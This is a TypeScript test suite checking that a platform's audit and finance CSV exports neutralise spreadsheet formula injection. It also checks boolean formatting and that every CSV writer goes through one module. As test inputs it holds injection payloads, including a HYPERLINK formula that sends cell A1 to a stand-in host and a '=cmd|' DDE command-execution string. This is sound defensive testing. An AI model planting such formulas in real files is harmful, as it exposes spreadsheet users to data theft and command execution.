/**
 * CSV injection: every CSV the platform writes (the audit export, the finance reports) neutralises a
 * cell a spreadsheet would take as a formula, and they are all written through src/export/csv.ts.
 */
import { randomUUID } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { AuditEvent } from '../../../audit/audit-event';
import { formatEvents } from '../../../audit/audit-export';
import { csvFile } from '../../../src/export/csv';
import { mismatchesCsv, summaryCsv, type VatMismatchRow } from '../../../src/finance/vat-reports';

const FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\tx', '\rx'];

describe('CSV files', () => {
  it('put a single quote before every cell that begins like a formula, and leave numbers alone', () => {
    const text = csvFile(['cell', 'amount'], [...FORMULAS.map((f) => [f, -5]), ['plain - text', 7]]);
    const lines = text.trim().split('\n');
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")",-5`);
    expect(lines[2]).toBe("'+1+1,-5");
    expect(lines[3]).toBe("'-2+3,-5");
    expect(lines[4]).toBe("'@SUM(A1),-5");
    expect(lines[5]).toBe("'\tx,-5");
    expect(text).toContain(`"'\rx",-5`);
    expect(text.trim().split('\n').at(-1)).toBe('plain - text,7');
  });

  it('neutralise a formula in an audit export (any API caller controls its User-Agent)', () => {
    const event: AuditEvent = {
      sequence: 1,
      eventId: randomUUID(),
      occurredAt: new Date('2026-11-25T09:00:00Z'),
      actorId: randomUUID(),
      actorKind: 'third_party',
      role: 'registry',
      onBehalfOf: '=cmd|"/c calc"!A1',
      subjectId: randomUUID(),
      categories: ['email'],
      fields: ['email'],
      action: 'read',
      purpose: 'domain-registration',
      requestId: null,
      traceId: null,
      clientIp: '192.0.2.1',
      userAgent: '=HYPERLINK("http://evil.example","open")',
    };
    const csv = formatEvents([event], 'csv');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example"",""open"")"`);
    expect(csv).toContain(`"'=cmd|""/c calc""!A1"`);
    expect(csv).not.toMatch(/(^|,)"?=/m);
  });

  it('write a boolean as true or false, never as 1 or an empty cell', () => {
    // csv-stringify's default writes true as '1' and false as '' (the same as a missing value), so a
    // finance report's `conflict` column could not tell "no conflict" from "not known".
    const text = csvFile(
      ['flag', 'missing'],
      [
        [true, null],
        [false, null],
      ],
    );
    expect(text.trim().split('\n')).toEqual(['flag,missing', 'true,', 'false,']);
    const row = {
      dataSubjectId: randomUUID(),
      order: {
        id: randomUUID(),
        createdAt: new Date('2026-11-25T09:00:00Z'),
        customer: { id: randomUUID() },
        amountCents: 995,
        currency: 'EUR',
      },
      billingCountry: 'NL',
      vatCountry: null,
      ipCountry: 'DE',
      ibanCountry: null,
      phoneCountry: null,
      conflict: false,
      treatment: 'UNDETERMINED',
      reason: 'r',
      evidence: [],
      excludedEvidence: [],
      territory: null,
    } as unknown as VatMismatchRow;
    expect(mismatchesCsv([row]).trim().split('\n')[1]).toMatch(/,NL,,DE,,,false,UNDETERMINED,995,EUR,r,$/);
  });

  it('neutralise a formula in the finance reports', () => {
    const row = {
      dataSubjectId: randomUUID(),
      order: {
        id: randomUUID(),
        createdAt: new Date('2026-11-25T09:00:00Z'),
        customer: { id: randomUUID() },
        amountCents: -1200,
        currency: 'EUR',
      },
      billingCountry: 'NL',
      vatCountry: null,
      ipCountry: 'DE',
      ibanCountry: null,
      phoneCountry: null,
      conflict: true,
      treatment: 'UNDETERMINED',
      reason: '@reason',
      evidence: [],
      excludedEvidence: [],
      territory: '+ES-CN',
    } as unknown as VatMismatchRow;
    const mismatches = mismatchesCsv([row]);
    expect(mismatches).toMatch(/,-1200,EUR,'@reason,'\+ES-CN\n$/);
    const summary = summaryCsv([
      {
        country: null,
        currency: '=EUR',
        orders: 1,
        amountCents: -1200,
        reverseCharged: 0,
        conflicting: 1,
        unverified: 0,
        rejected: 0,
        territory: null,
      },
    ]);
    expect(summary.split('\n')[1]).toBe("UNDETERMINED,'=EUR,1,-1200,0,1,0,0,");
  });

  it('are all written through src/export/csv.ts', () => {
    const root = path.resolve(__dirname, '../../..');
    const writers: string[] = [];
    const walk = (dir: string) => {
      for (const entry of readdirSync(path.join(root, dir), { withFileTypes: true })) {
        const relative = path.join(dir, entry.name);
        if (entry.isDirectory()) walk(relative);
        else if (
          entry.name.endsWith('.ts') &&
          /csv-stringify/.test(readFileSync(path.join(root, relative), 'utf8'))
        )
          writers.push(relative);
      }
    };
    for (const dir of ['src', 'audit', 'geo', 'resolvers', 'bench']) walk(dir);
    expect(writers).toEqual([path.join('src', 'export', 'csv.ts')]);
  });
});
